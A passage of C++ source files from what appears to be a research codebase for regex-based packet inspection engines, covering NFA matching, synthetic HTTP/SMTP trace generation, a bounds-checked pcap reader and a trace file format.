  [[nodiscard]] std::size_t context_bytes() const { return nfa_->context_bytes(); }

 private:
  const Nfa* nfa_;
  Nfa::Context ctx_;
};

// --- template implementation ---

template <typename Sink>
void Nfa::feed(Context& ctx, const std::uint8_t* data, std::size_t size, std::uint64_t base,
               Sink&& sink) const {
  const std::size_t words = ctx.current.size();
  for (std::size_t i = 0; i < size; ++i) {
    const unsigned char c = data[i];
    std::fill(ctx.next.begin(), ctx.next.end(), 0);
    // Gather active states then apply their transition lists.
    for (std::size_t wi = 0; wi < words; ++wi) {
      std::uint64_t w = ctx.current[wi];
      while (w != 0) {
        const std::uint32_t s =
            static_cast<std::uint32_t>(wi * 64 + static_cast<std::size_t>(__builtin_ctzll(w)));
        w &= w - 1;
        for (const auto& t : transitions_[s]) {
          if (t.cc.test(c)) ctx.next[t.target >> 6] |= 1ULL << (t.target & 63);
        }
      }
    }
    // The start state is always re-activated: unanchored patterns already
    // carry a dot-star prefix whose self-loop keeps it live, and anchored
    // patterns hang off a start that must stay active only at offset 0 —
    // the builder models that with the prefix structure, so here we only
    // re-add the start's identity (it has a self-loop through the prefix).
    ctx.current.swap(ctx.next);
    // Report accepts, deduped per (id, position) via last-seen stamps.
    for (std::size_t wi = 0; wi < words; ++wi) {
      std::uint64_t w = ctx.current[wi];
      while (w != 0) {
        const std::uint32_t s =
            static_cast<std::uint32_t>(wi * 64 + static_cast<std::size_t>(__builtin_ctzll(w)));
        w &= w - 1;
        for (const std::uint32_t id : accepts_[s]) {
          if (ctx.seen_stamp[id] != base + i + 1) {
            ctx.seen_stamp[id] = base + i + 1;
            sink(id, base + i);
          }
        }
      }
    }
  }
}

}  // namespace mfa::nfa
