// Protocol-flavoured trace synthesis standing in for the paper's real
// captures (DARPA/CDX/Nitroba). The shape that matters for throughput is
// the byte-class mix (text-heavy protocol data vs. binary), packet size
// distribution, flow interleaving, and a small density of content that
// actually advances the pattern automata — all of which these profiles
// control. See DESIGN.md Sec. 4.
#include "trace/trace.h"

#include <array>
#include <string>
#include <string_view>

namespace mfa::trace {

namespace {

constexpr std::array<std::string_view, 12> kHosts = {
    "www.example.edu",  "mail.campus.edu",   "files.campus.edu", "intranet.corp.net",
    "updates.vendor.com", "cdn.provider.org", "portal.campus.edu", "db.backend.lan",
    "printer.floor2.lan", "auth.campus.edu",  "wiki.campus.edu",  "news.remote.org"};

constexpr std::array<std::string_view, 14> kPaths = {
    "/index.html",      "/images/logo.gif",    "/cgi-bin/search",   "/login",
    "/downloads/tool.zip", "/api/v1/status",   "/news/today.html",  "/docs/manual.pdf",
    "/favicon.ico",     "/style/main.css",     "/scripts/app.js",   "/research/data.csv",
    "/forum/thread/42", "/calendar/week"};

constexpr std::array<std::string_view, 8> kUserAgents = {
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
    "Mozilla/5.0 (X11; Linux i686) Gecko/20040113",
    "Wget/1.9.1",
    "curl/7.12.0",
    "Mozilla/5.0 (Macintosh; PPC Mac OS X)",
    "Opera/7.54 (Windows NT 5.1; U)",
    "Lynx/2.8.5rel.1",
    "Python-urllib/2.4"};

constexpr std::array<std::string_view, 10> kWords = {
    "schedule", "report",  "grades", "project", "meeting",
    "homework", "library", "budget", "roster",  "survey"};

std::string http_request(util::Rng& rng) {
  std::string out;
  out += rng.chance(0.8) ? "GET " : "POST ";
  out += kPaths[rng.below(kPaths.size())];
  if (rng.chance(0.3)) {
    out += "?q=";
    out += kWords[rng.below(kWords.size())];
  }
  out += " HTTP/1.1\r\nHost: ";
  out += kHosts[rng.below(kHosts.size())];
  out += "\r\nUser-Agent: ";
  out += kUserAgents[rng.below(kUserAgents.size())];
  out += "\r\nAccept: */*\r\nConnection: keep-alive\r\n\r\n";
  return out;
}

std::string http_response(util::Rng& rng, std::size_t body_len, bool binary) {
  std::string out = "HTTP/1.1 200 OK\r\nServer: Apache/1.3.27\r\nContent-Type: ";
  out += binary ? "application/octet-stream" : "text/html";
  out += "\r\nContent-Length: " + std::to_string(body_len) + "\r\n\r\n";
  if (binary) {
    for (std::size_t i = 0; i < body_len; ++i) out += static_cast<char>(rng.byte());
  } else {
    out += "<html><head><title>";
    out += kWords[rng.below(kWords.size())];
    out += "</title></head><body>\n";
    while (out.size() < body_len) {
      out += "<p>The ";
      out += kWords[rng.below(kWords.size())];
      out += " for the ";
      out += kWords[rng.below(kWords.size())];
      out += " is available.</p>\n";
    }
    out += "</body></html>\n";
  }
  return out;
}

std::string smtp_session(util::Rng& rng) {
  std::string out = "220 mail.campus.edu ESMTP\r\nHELO client.campus.edu\r\n";
  out += "MAIL FROM:<user" + std::to_string(rng.below(500)) + "@campus.edu>\r\n";
  out += "RCPT TO:<user" + std::to_string(rng.below(500)) + "@campus.edu>\r\n";
  out += "DATA\r\nSubject: ";
  out += kWords[rng.below(kWords.size())];
  out += "\r\n\r\n";
  const std::size_t lines = 3 + rng.below(12);
  for (std::size_t i = 0; i < lines; ++i) {
    out += "Please review the ";
    out += kWords[rng.below(kWords.size())];
    out += " before the ";
    out += kWords[rng.below(kWords.size())];
    out += ".\r\n";
  }
  out += ".\r\nQUIT\r\n";
  return out;
}

std::string binary_blob(util::Rng& rng, std::size_t len, double newline_density) {
  std::string out;
  out.reserve(len);
  for (std::size_t i = 0; i < len; ++i)
    out += rng.chance(newline_density) ? '\n' : static_cast<char>(rng.byte());
  return out;
}

struct Profile {
  double http = 0.6;
  double smtp = 0.2;     // remainder is binary
  double attack = 0.02;  // probability a flow carries one attack exemplar
  std::size_t mean_flow = 4000;
  /// Extra newline density in binary flows; high values flood the filter
  /// engines with almost-dot-star clear events (the C112 anomaly).
  double newline_density = 0.0;
};

Profile profile_for(RealLifeProfile p) {
  switch (p) {
    case RealLifeProfile::kDarpa:
      return Profile{0.5, 0.3, 0.01, 5000, 0.0};
    case RealLifeProfile::kCyberDefense:
      return Profile{0.4, 0.15, 0.08, 3000, 0.0};
    case RealLifeProfile::kNitroba:
      return Profile{0.85, 0.05, 0.02, 6000, 0.0};
    case RealLifeProfile::kCyberDefenseNoisy:
      return Profile{0.15, 0.05, 0.15, 3000, 0.35};
  }
  return Profile{};
}

const char* profile_name(RealLifeProfile p) {
  switch (p) {
    case RealLifeProfile::kDarpa:
      return "darpa";
    case RealLifeProfile::kCyberDefense:
      return "cdx";
    case RealLifeProfile::kNitroba:
      return "nitroba";
    case RealLifeProfile::kCyberDefenseNoisy:
      return "cdx-noisy";
  }
  return "unknown";
}

}  // namespace

Trace make_real_life(RealLifeProfile profile, std::size_t bytes, std::uint64_t seed,
                     const std::vector<std::string>& attack_exemplars) {
  const Profile cfg = profile_for(profile);
  util::Rng rng(seed);
  Trace trace(profile_name(profile));

  // Build whole flow payloads first, then packetize with interleaving so
  // the inspector's flow table is genuinely exercised.
  struct PendingFlow {
    flow::FlowKey key;
    std::string payload;
    std::size_t sent = 0;
  };
  std::vector<PendingFlow> active;
  std::size_t produced = 0;
  std::size_t next_exemplar = 0;
  std::uint32_t next_ip = 0x0a010101;

  const auto spawn_flow = [&] {
    PendingFlow f;
    f.key = flow::FlowKey{next_ip++, 0xc0a80001u + static_cast<std::uint32_t>(rng.below(64)),
                          static_cast<std::uint16_t>(1024 + rng.below(60000)),
                          static_cast<std::uint16_t>(rng.chance(cfg.http) ? 80 : 25), 6};
    const double kind = rng.uniform01();
    if (kind < cfg.http) {
      f.payload = http_request(rng);
      const std::size_t body = cfg.mean_flow / 2 + rng.below(cfg.mean_flow);
      f.payload += http_response(rng, body, rng.chance(0.25));
    } else if (kind < cfg.http + cfg.smtp) {
      f.payload = smtp_session(rng);
    } else {
      f.payload = binary_blob(rng, cfg.mean_flow / 2 + rng.below(cfg.mean_flow * 2),
                              cfg.newline_density);
    }
    if (!attack_exemplars.empty() && rng.chance(cfg.attack)) {
      // Splice one exemplar into the flow at a random offset, as attack
      // content appears inside otherwise ordinary flows. Exemplars cycle
      // round-robin so every rule's content eventually appears.
      const std::string& ex = attack_exemplars[next_exemplar++ % attack_exemplars.size()];
      const std::size_t at = rng.below(f.payload.size() + 1);
      f.payload.insert(at, ex);
    }
    active.push_back(std::move(f));
  };

  constexpr std::size_t kConcurrentFlows = 24;
  while (produced < bytes || !active.empty()) {
    while (active.size() < kConcurrentFlows && produced < bytes) spawn_flow();
    if (active.empty()) break;
    // Pick a random active flow and emit its next segment.
    const std::size_t idx = rng.below(active.size());
    PendingFlow& f = active[idx];
    const std::size_t mtu = 200 + rng.below(1261);  // 200..1460 byte payloads
    const std::size_t len = std::min(mtu, f.payload.size() - f.sent);
    trace.add_packet(f.key, f.sent,
                     reinterpret_cast<const std::uint8_t*>(f.payload.data()) + f.sent, len);
    f.sent += len;
    produced += len;
    if (f.sent == f.payload.size()) {
      active[idx] = std::move(active.back());
      active.pop_back();
    }
    if (produced >= bytes) {
      // Flush remaining flows without spawning new ones, still packetized
      // at realistic sizes.
      for (PendingFlow& g : active) {
        while (g.sent < g.payload.size()) {
          const std::size_t flush_mtu = 200 + rng.below(1261);
          const std::size_t flush_len =
              std::min(flush_mtu, g.payload.size() - g.sent);
          trace.add_packet(g.key, g.sent,
                           reinterpret_cast<const std::uint8_t*>(g.payload.data()) + g.sent,
                           flush_len);
          g.sent += flush_len;
        }
      }
      active.clear();
    }
  }
  return trace;
}

}  // namespace mfa::trace
