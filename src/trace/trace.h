// Trace container and generators (paper Sec. V-A).
//
// The paper evaluates on real pcap traces (DARPA "LL", CDX "C1xx",
// Nitroba "N") plus synthetic traces from Becchi et al.'s flow generator
// with match probabilities p_M in {0.35, 0.55, 0.75, 0.95} and a purely
// random baseline. Real traces are not shipped here, so `trace` provides:
//  - a packetized Trace container with its own binary file format,
//  - make_synthetic(): a reimplementation of the Becchi generator idea —
//    a random walk over the pattern DFA that takes a depth-increasing
//    transition with probability p_M,
//  - make_real_life(): protocol-flavoured flow synthesis (HTTP/SMTP/binary
//    mixes with light attack-content injection) standing in for the DARPA/
//    CDX/Nitroba traces, with one profile per trace family.
// See DESIGN.md Sec. 4 for why these substitutions preserve the measured
// behaviour.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "dfa/dfa.h"
#include "flow/flow.h"
#include "nfa/nfa.h"
#include "util/rng.h"

namespace mfa::trace {

class Trace {
 public:
  Trace() = default;
  explicit Trace(std::string name) : name_(std::move(name)) {}

  [[nodiscard]] const std::string& name() const { return name_; }
  [[nodiscard]] std::size_t packet_count() const { return packets_.size(); }
  [[nodiscard]] std::size_t payload_bytes() const { return payload_.size(); }

  /// Append one packet; bytes are copied into the trace's arena.
  void add_packet(const flow::FlowKey& key, std::uint64_t seq, const std::uint8_t* data,
                  std::size_t size);
  void add_packet(const flow::FlowKey& key, std::uint64_t seq, const std::string& data) {
    add_packet(key, seq, reinterpret_cast<const std::uint8_t*>(data.data()), data.size());
  }

  /// Packet view; valid until the next add_packet.
  [[nodiscard]] flow::Packet packet(std::size_t i) const {
    const Rec& r = packets_[i];
    return flow::Packet{r.key, r.seq, payload_.data() + r.offset, r.length};
  }

  /// Visit every packet in capture order.
  template <typename Fn>
  void for_each_packet(Fn&& fn) const {
    for (std::size_t i = 0; i < packets_.size(); ++i) fn(packet(i));
  }

  /// Binary save/load ("MFTR" format). Returns false on I/O or format error.
  bool save(const std::string& path) const;
  static bool load(const std::string& path, Trace& out);

 private:
  struct Rec {
    flow::FlowKey key;
    std::uint64_t seq = 0;
    std::uint64_t offset = 0;
    std::uint32_t length = 0;
  };
  std::string name_;
  std::vector<std::uint8_t> payload_;
  std::vector<Rec> packets_;
};

/// Becchi-style synthetic trace: a walk over `dfa` that with probability
/// p_M takes a transition to a deeper state (toward accepting states) and
/// otherwise emits a uniformly random byte. p_M = 0 gives the paper's
/// "purely random" baseline. One flow, packetized at ~mtu bytes.
Trace make_synthetic(const dfa::Dfa& dfa, double p_m, std::size_t bytes,
                     std::uint64_t seed, std::size_t mtu = 1400);

/// Profile for real-life trace substitution.
enum class RealLifeProfile {
  kDarpa,         ///< "LL": broad protocol mix, very light attack density
  kCyberDefense,  ///< "C1xx": heavier attack density, more binary flows
  kNitroba,       ///< "N": HTTP-dominated campus traffic
  /// "C112": competition trace that floods the filter with events. The
  /// paper singles this trace out (MFA averages 306 CpB on it vs 49
  /// elsewhere); the mechanism is a high density of bytes that complete
  /// decomposed pieces — most cheaply, newline-dense payloads that fire
  /// the almost-dot-star clear pieces on nearly every byte.
  kCyberDefenseNoisy,
};

/// Build a protocol-flavoured multiplexed trace. `attack_exemplars` holds
/// strings sampled from the pattern set's language (may be empty).
Trace make_real_life(RealLifeProfile profile, std::size_t bytes, std::uint64_t seed,
                     const std::vector<std::string>& attack_exemplars);

}  // namespace mfa::trace
