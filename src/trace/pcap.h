// Minimal libpcap-format reader.
//
// The paper's real-life inputs are .pcap captures "with packet-level
// details and not pre-assembled flows" (Sec. V-A). This reader ingests the
// classic libpcap file format (magic 0xa1b2c3d4, microsecond or nanosecond
// variants, either endianness), parses Ethernet/IPv4/{TCP,UDP} headers to
// recover the 5-tuple and the L4 payload, and emits a Trace whose packets
// carry TCP sequence-relative offsets so the FlowInspector can reassemble
// exactly like it does for generated traces. Stream offsets are 64-bit:
// the 32-bit wire sequence is unwrapped via its signed delta from the last
// seen position, so flows longer than 4 GiB keep monotone offsets instead
// of folding back to zero. Non-IPv4/non-TCP/UDP frames are counted and
// skipped. No external dependency.
//
// Malformed-capture policy: damage at the CAPTURE level — an implausible
// record length, a record body the file is too short to hold, trailing
// bytes shorter than a record header — makes every later record boundary
// untrustworthy, so parsing stops with ok=false and a diagnostic naming the
// offending frame (packets parsed before the damage stay in the trace).
// Damage INSIDE a well-formed record (truncated IP/TCP headers, bad IHL,
// lying UDP lengths) is hostile traffic, not a broken file: those frames
// are counted in skipped_truncated and parsing continues.
#pragma once

#include <cstdint>
#include <string>

#include "trace/trace.h"

namespace mfa::trace {

struct PcapStats {
  std::uint64_t frames = 0;           ///< records in the file
  std::uint64_t payload_packets = 0;  ///< frames contributing payload bytes
  std::uint64_t skipped_non_ip = 0;
  std::uint64_t skipped_non_l4 = 0;   ///< IPv4 but not TCP/UDP
  std::uint64_t skipped_truncated = 0;
  std::uint64_t skipped_empty = 0;    ///< TCP segments with no payload (ACKs)
};

struct PcapResult {
  bool ok = false;
  std::string error;
  Trace trace;
  PcapStats stats;
};

/// Read a .pcap file into a Trace. TCP payload offsets are relative to the
/// first sequence number seen per flow (SYN-aware); UDP datagrams are
/// delivered back to back per flow.
PcapResult read_pcap(const std::string& path);

/// Parse from an in-memory buffer (used by tests and network ingestion).
PcapResult read_pcap_buffer(const std::uint8_t* data, std::size_t size,
                            std::string name = "pcap");

}  // namespace mfa::trace
