#include "trace/pcap.h"

#include <cstdio>
#include <cstring>
#include <memory>
#include <unordered_map>
#include <vector>

#include "util/binio.h"

namespace mfa::trace {

namespace {

constexpr std::uint32_t kMagicUsec = 0xa1b2c3d4;
constexpr std::uint32_t kMagicNsec = 0xa1b23c4d;
constexpr std::uint32_t kMagicUsecSwapped = 0xd4c3b2a1;
constexpr std::uint32_t kMagicNsecSwapped = 0x4d3cb2a1;
constexpr std::uint32_t kLinkEthernet = 1;

/// Sanity cap on a single captured record. Real captures top out at jumbo
/// frames (~9 KB); anything past this is a corrupt or hostile length field,
/// and trusting it would make the reader walk off (or far through) the
/// buffer. Generous so ERF-style super-jumbo snaplens still pass.
constexpr std::uint32_t kMaxFrameBytes = 256 * 1024;

std::uint16_t bswap16(std::uint16_t v) { return static_cast<std::uint16_t>((v << 8) | (v >> 8)); }
std::uint32_t bswap32(std::uint32_t v) {
  return ((v & 0xff) << 24) | ((v & 0xff00) << 8) | ((v >> 8) & 0xff00) | (v >> 24);
}

/// Cursor over the raw capture bytes.
struct Cursor {
  const std::uint8_t* data;
  std::size_t size;
  std::size_t pos = 0;

  [[nodiscard]] bool have(std::size_t n) const { return pos + n <= size; }
  const std::uint8_t* take(std::size_t n) {
    const std::uint8_t* p = data + pos;
    pos += n;
    return p;
  }
};

std::uint16_t read_be16(const std::uint8_t* p) {
  return static_cast<std::uint16_t>((p[0] << 8) | p[1]);
}
std::uint32_t read_be32(const std::uint8_t* p) {
  return (std::uint32_t{p[0]} << 24) | (std::uint32_t{p[1]} << 16) |
         (std::uint32_t{p[2]} << 8) | p[3];
}

}  // namespace

PcapResult read_pcap_buffer(const std::uint8_t* data, std::size_t size, std::string name) {
  PcapResult result;
  result.trace = Trace(std::move(name));
  Cursor cur{data, size};

  if (!cur.have(24)) {
    result.error = "file shorter than a pcap global header";
    return result;
  }
  std::uint32_t magic;
  std::memcpy(&magic, cur.take(4), 4);
  bool swapped;
  if (magic == kMagicUsec || magic == kMagicNsec) swapped = false;
  else if (magic == kMagicUsecSwapped || magic == kMagicNsecSwapped) swapped = true;
  else {
    result.error = "not a pcap file (bad magic)";
    return result;
  }
  cur.take(2 + 2 + 4 + 4 + 4);  // version, thiszone, sigfigs, snaplen
  std::uint32_t linktype;
  std::memcpy(&linktype, cur.take(4), 4);
  if (swapped) linktype = bswap32(linktype);
  if (linktype != kLinkEthernet) {
    result.error = "unsupported link type " + std::to_string(linktype) +
                   " (only Ethernet is supported)";
    return result;
  }

  // Per-flow TCP sequence tracking. The wire carries 32-bit sequence
  // numbers; long flows wrap them every 4 GiB, so `seq - base` alone would
  // fold the stream offset back to zero (and a stray pre-base segment would
  // wrap to a bogus ~4 GiB offset). Instead each new segment is unwrapped
  // onto a 64-bit stream position via its signed 32-bit delta from the most
  // recent unwrapped position — exact as long as successive segments stay
  // within +/-2 GiB of each other, which TCP's window rules guarantee.
  struct TcpSeqState {
    std::uint64_t base = 0;  ///< unwrapped position of stream byte 0
    std::uint64_t last = 0;  ///< highest unwrapped sequence seen
  };
  std::unordered_map<flow::FlowKey, TcpSeqState, flow::FlowKeyHash> tcp_seq;
  std::unordered_map<flow::FlowKey, std::uint64_t, flow::FlowKeyHash> udp_offset;

  while (cur.have(16)) {
    ++result.stats.frames;
    cur.take(8);  // timestamp
    std::uint32_t incl_len, orig_len;
    std::memcpy(&incl_len, cur.take(4), 4);
    std::memcpy(&orig_len, cur.take(4), 4);
    if (swapped) incl_len = bswap32(incl_len);
    // A corrupt capture is an error, not a skip: a bogus length field means
    // every later record boundary is untrustworthy, so parsing stops with a
    // diagnostic naming the frame. Packets parsed so far stay in the trace.
    if (incl_len > kMaxFrameBytes) {
      result.error = "frame " + std::to_string(result.stats.frames) +
                     ": implausible record length " + std::to_string(incl_len) +
                     " (max " + std::to_string(kMaxFrameBytes) + ")";
      return result;
    }
    if (!cur.have(incl_len)) {
      result.error = "frame " + std::to_string(result.stats.frames) +
                     ": record truncated (header claims " +
                     std::to_string(incl_len) + " bytes, " +
                     std::to_string(cur.size - cur.pos) + " left in file)";
      return result;
    }
    const std::uint8_t* frame = cur.take(incl_len);
    const std::size_t frame_len = incl_len;

    // Ethernet header: 14 bytes, ethertype 0x0800 = IPv4.
    if (frame_len < 14 + 20) {
      ++result.stats.skipped_non_ip;
      continue;
    }
    if (read_be16(frame + 12) != 0x0800) {
      ++result.stats.skipped_non_ip;
      continue;
    }
    const std::uint8_t* ip = frame + 14;
    const std::size_t ip_space = frame_len - 14;
    if ((ip[0] >> 4) != 4) {
      ++result.stats.skipped_non_ip;
      continue;
    }
    const std::size_t ihl = static_cast<std::size_t>(ip[0] & 0x0f) * 4;
    const std::size_t ip_total = read_be16(ip + 2);
    if (ihl < 20 || ip_total < ihl || ip_total > ip_space) {
      ++result.stats.skipped_truncated;
      continue;
    }
    const std::uint8_t proto = ip[9];
    flow::FlowKey key;
    key.src_ip = read_be32(ip + 12);
    key.dst_ip = read_be32(ip + 16);
    key.proto = proto;
    const std::uint8_t* l4 = ip + ihl;
    const std::size_t l4_space = ip_total - ihl;

    if (proto == 6) {  // TCP
      if (l4_space < 20) {
        ++result.stats.skipped_truncated;
        continue;
      }
      key.src_port = read_be16(l4);
      key.dst_port = read_be16(l4 + 2);
      const std::uint32_t seq = read_be32(l4 + 4);
      const std::size_t data_off = static_cast<std::size_t>(l4[12] >> 4) * 4;
      const std::uint8_t flags = l4[13];
      if (data_off < 20 || data_off > l4_space) {
        ++result.stats.skipped_truncated;
        continue;
      }
      const std::uint8_t* payload = l4 + data_off;
      std::size_t payload_len = l4_space - data_off;
      // Establish the per-flow base sequence: SYN consumes one sequence
      // number, so payload starts at seq+1 relative to the SYN's seq.
      auto it = tcp_seq.find(key);
      if (it == tcp_seq.end()) {
        TcpSeqState st;
        st.last = seq;
        st.base = st.last + ((flags & 0x02) != 0 ? 1 : 0);
        it = tcp_seq.emplace(key, st).first;
      }
      if (payload_len == 0) {
        ++result.stats.skipped_empty;
        continue;
      }
      TcpSeqState& st = it->second;
      // Unwrap: interpret the 32-bit difference from the last unwrapped
      // position as signed, so both wraps (forward past 2^32) and
      // retransmits (small negative deltas) land on the right 64-bit spot.
      const auto delta =
          static_cast<std::int32_t>(seq - static_cast<std::uint32_t>(st.last));
      const std::uint64_t unwrapped = st.last + static_cast<std::int64_t>(delta);
      if (unwrapped > st.last) st.last = unwrapped;
      // Segments (or prefixes) from before stream byte 0 — keep-alive
      // probes, retransmitted SYN-era bytes — are trimmed rather than left
      // to wrap into a bogus far-future offset.
      std::uint64_t rel = 0;
      if (unwrapped < st.base) {
        const std::uint64_t skip = st.base - unwrapped;
        if (skip >= payload_len) {
          ++result.stats.skipped_empty;
          continue;
        }
        payload += skip;
        payload_len -= static_cast<std::size_t>(skip);
      } else {
        rel = unwrapped - st.base;
      }
      result.trace.add_packet(key, rel, payload, payload_len);
      ++result.stats.payload_packets;
    } else if (proto == 17) {  // UDP
      if (l4_space < 8) {
        ++result.stats.skipped_truncated;
        continue;
      }
      key.src_port = read_be16(l4);
      key.dst_port = read_be16(l4 + 2);
      const std::size_t udp_len = read_be16(l4 + 4);
      if (udp_len < 8 || udp_len > l4_space) {
        ++result.stats.skipped_truncated;
        continue;
      }
      const std::size_t payload_len = udp_len - 8;
      if (payload_len == 0) {
        ++result.stats.skipped_empty;
        continue;
      }
      std::uint64_t& offset = udp_offset[key];
      result.trace.add_packet(key, offset, l4 + 8, payload_len);
      offset += payload_len;
      ++result.stats.payload_packets;
    } else {
      ++result.stats.skipped_non_l4;
    }
  }
  if (cur.pos != cur.size) {
    // Trailing bytes too short to be a record header: the file was cut
    // mid-header (or garbage was appended) — also a capture-level error.
    result.error = "frame " + std::to_string(result.stats.frames + 1) +
                   ": truncated record header (" +
                   std::to_string(cur.size - cur.pos) + " trailing bytes)";
    return result;
  }

  result.ok = true;
  return result;
}

PcapResult read_pcap(const std::string& path) {
  util::FilePtr f(std::fopen(path.c_str(), "rb"));
  if (!f) {
    PcapResult r;
    r.error = "cannot open " + path;
    return r;
  }
  std::fseek(f.get(), 0, SEEK_END);
  const long size = std::ftell(f.get());
  std::fseek(f.get(), 0, SEEK_SET);
  if (size < 0) {
    PcapResult r;
    r.error = "cannot stat " + path;
    return r;
  }
  std::vector<std::uint8_t> bytes(static_cast<std::size_t>(size));
  if (!bytes.empty() && std::fread(bytes.data(), 1, bytes.size(), f.get()) != bytes.size()) {
    PcapResult r;
    r.error = "short read on " + path;
    return r;
  }
  return read_pcap_buffer(bytes.data(), bytes.size(), path);
}

}  // namespace mfa::trace
