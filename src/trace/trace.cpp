#include "trace/trace.h"

#include <algorithm>
#include <cstdio>
#include <cstring>
#include <memory>

#include "util/table.h"

namespace mfa::trace {

void Trace::add_packet(const flow::FlowKey& key, std::uint64_t seq,
                       const std::uint8_t* data, std::size_t size) {
  Rec r;
  r.key = key;
  r.seq = seq;
  r.offset = payload_.size();
  r.length = static_cast<std::uint32_t>(size);
  payload_.insert(payload_.end(), data, data + size);
  packets_.push_back(r);
}

namespace {
constexpr char kMagic[4] = {'M', 'F', 'T', 'R'};
constexpr std::uint32_t kVersion = 1;

struct FileCloser {
  void operator()(std::FILE* f) const {
    if (f != nullptr) std::fclose(f);
  }
};
using FilePtr = std::unique_ptr<std::FILE, FileCloser>;

bool write_all(std::FILE* f, const void* data, std::size_t size) {
  return std::fwrite(data, 1, size, f) == size;
}
bool read_all(std::FILE* f, void* data, std::size_t size) {
  return std::fread(data, 1, size, f) == size;
}
}  // namespace

bool Trace::save(const std::string& path) const {
  FilePtr f(std::fopen(path.c_str(), "wb"));
  if (!f) return false;
  const std::uint64_t npackets = packets_.size();
  const std::uint64_t nbytes = payload_.size();
  const std::uint32_t name_len = static_cast<std::uint32_t>(name_.size());
  if (!write_all(f.get(), kMagic, 4) || !write_all(f.get(), &kVersion, 4) ||
      !write_all(f.get(), &name_len, 4) || !write_all(f.get(), name_.data(), name_len) ||
      !write_all(f.get(), &npackets, 8) || !write_all(f.get(), &nbytes, 8))
    return false;
  if (npackets > 0 && !write_all(f.get(), packets_.data(), npackets * sizeof(Rec)))
    return false;
  if (nbytes > 0 && !write_all(f.get(), payload_.data(), nbytes)) return false;
  return true;
}

bool Trace::load(const std::string& path, Trace& out) {
  FilePtr f(std::fopen(path.c_str(), "rb"));
  if (!f) return false;
  char magic[4];
  std::uint32_t version = 0;
  std::uint32_t name_len = 0;
  if (!read_all(f.get(), magic, 4) || std::memcmp(magic, kMagic, 4) != 0) return false;
  if (!read_all(f.get(), &version, 4) || version != kVersion) return false;
  if (!read_all(f.get(), &name_len, 4) || name_len > (1u << 20)) return false;
  out.name_.resize(name_len);
  if (name_len > 0 && !read_all(f.get(), out.name_.data(), name_len)) return false;
  std::uint64_t npackets = 0;
  std::uint64_t nbytes = 0;
  if (!read_all(f.get(), &npackets, 8) || !read_all(f.get(), &nbytes, 8)) return false;
  out.packets_.resize(npackets);
  if (npackets > 0 && !read_all(f.get(), out.packets_.data(), npackets * sizeof(Rec)))
    return false;
  out.payload_.resize(nbytes);
  if (nbytes > 0 && !read_all(f.get(), out.payload_.data(), nbytes)) return false;
  // Sanity: packet extents must stay inside the payload arena.
  for (const Rec& r : out.packets_) {
    if (r.offset + r.length > nbytes) return false;
  }
  return true;
}

Trace make_synthetic(const dfa::Dfa& dfa, double p_m, std::size_t bytes,
                     std::uint64_t seed, std::size_t mtu) {
  // BFS depth of every DFA state from the start; "deeper" approximates
  // "closer to completing a pattern", per the Becchi generator's forward
  // transitions.
  const std::uint32_t n = dfa.state_count();
  std::vector<std::uint32_t> depth(n, UINT32_MAX);
  std::vector<std::uint32_t> queue;
  depth[dfa.start()] = 0;
  queue.push_back(dfa.start());
  for (std::size_t i = 0; i < queue.size(); ++i) {
    const std::uint32_t s = queue[i];
    for (unsigned b = 0; b < 256; ++b) {
      const std::uint32_t t = dfa.next(s, static_cast<unsigned char>(b));
      if (depth[t] == UINT32_MAX) {
        depth[t] = depth[s] + 1;
        queue.push_back(t);
      }
    }
  }
  // Per state: list of bytes leading strictly deeper.
  std::vector<std::vector<std::uint8_t>> deepening(n);
  for (std::uint32_t s = 0; s < n; ++s) {
    for (unsigned b = 0; b < 256; ++b) {
      const std::uint32_t t = dfa.next(s, static_cast<unsigned char>(b));
      if (depth[t] != UINT32_MAX && depth[t] > depth[s])
        deepening[s].push_back(static_cast<std::uint8_t>(b));
    }
  }

  util::Rng rng(seed);
  std::string name = "synthetic_pM_" + util::format_double(p_m, 2);
  Trace trace(name);
  flow::FlowKey key{0x0a000001, 0x0a000002, 40000, 80, 6};

  std::vector<std::uint8_t> buffer;
  buffer.reserve(mtu);
  std::uint64_t seq = 0;
  std::uint32_t state = dfa.start();
  for (std::size_t i = 0; i < bytes; ++i) {
    std::uint8_t byte;
    if (!deepening[state].empty() && rng.chance(p_m)) {
      byte = deepening[state][rng.below(deepening[state].size())];
    } else {
      byte = rng.byte();
    }
    state = dfa.next(state, byte);
    buffer.push_back(byte);
    if (buffer.size() >= mtu) {
      trace.add_packet(key, seq, buffer.data(), buffer.size());
      seq += buffer.size();
      buffer.clear();
    }
  }
  if (!buffer.empty()) trace.add_packet(key, seq, buffer.data(), buffer.size());
  return trace;
}

}  // namespace mfa::trace
