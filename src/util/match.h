// Match event types shared by every engine.
//
// The contract (DESIGN.md Sec. 3): an engine emits one Match{id, end} per
// pattern id and end offset at which some substring ending there matches.
// All five engines (NFA, DFA, MFA, HFA, XFA) produce identical Match sets;
// the equivalence property tests compare these vectors directly.
#pragma once

#include <cstdint>
#include <tuple>
#include <vector>

namespace mfa {

struct Match {
  std::uint32_t id = 0;   ///< pattern (match) id
  std::uint64_t end = 0;  ///< offset of the last byte of the match, 0-based

  friend bool operator==(const Match&, const Match&) = default;
  friend bool operator<(const Match& a, const Match& b) {
    return std::tie(a.end, a.id) < std::tie(b.end, b.id);
  }
};

using MatchVec = std::vector<Match>;

/// Sink that only counts matches; used on the benchmark hot path so that
/// match storage does not distort cycles-per-byte measurements.
struct CountingSink {
  std::uint64_t count = 0;
  void operator()(std::uint32_t /*id*/, std::uint64_t /*end*/) { ++count; }
};

/// Sink that records every match; used by tests and examples.
struct CollectingSink {
  MatchVec matches;
  void operator()(std::uint32_t id, std::uint64_t end) {
    matches.push_back(Match{id, end});
  }
};

}  // namespace mfa
