#include "util/table.h"

#include <algorithm>
#include <cctype>
#include <cstdio>
#include <sstream>

namespace mfa::util {

TextTable::TextTable(std::vector<std::string> header) : header_(std::move(header)) {}

void TextTable::add_row(std::vector<std::string> row) {
  row.resize(header_.size());
  rows_.push_back(std::move(row));
}

namespace {
bool looks_numeric(const std::string& s) {
  if (s.empty()) return false;
  for (const char c : s) {
    if (!(std::isdigit(static_cast<unsigned char>(c)) || c == '.' || c == '-' ||
          c == '+' || c == 'e' || c == ',' || c == '%'))
      return false;
  }
  return true;
}
}  // namespace

std::string TextTable::to_string() const {
  std::vector<std::size_t> widths(header_.size());
  for (std::size_t i = 0; i < header_.size(); ++i) widths[i] = header_[i].size();
